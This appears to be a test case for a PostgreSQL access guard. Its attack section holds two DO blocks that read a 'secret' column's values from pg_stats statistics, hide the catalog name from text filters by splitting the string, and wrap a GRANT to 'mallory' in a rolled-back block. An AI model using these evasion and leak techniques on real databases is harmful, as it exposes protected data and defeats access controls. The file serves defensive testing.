-- Reads statistics by text in a block that is rolled back, then has the view's rules thrown out by a GRANT.
-- wants: read
-- setup:
ANALYZE vlt_account;
-- attack:
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''vlt_account'' AND attname = ''secret''' INTO x;
    EXECUTE 'GRANT SELECT ON pg_' || 'stats TO mallory';
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
DO $$ DECLARE x text; BEGIN
  BEGIN EXECUTE 'SELECT most_common_vals::text FROM pg_' || 'stats WHERE tablename = ''vlt_account'' AND attname = ''secret''' INTO x;
    EXECUTE 'GRANT SELECT (tablename) ON pg_' || 'stats TO mallory';
    RAISE division_by_zero; EXCEPTION WHEN division_by_zero THEN NULL; END;
  RAISE NOTICE '%', x; END $$;
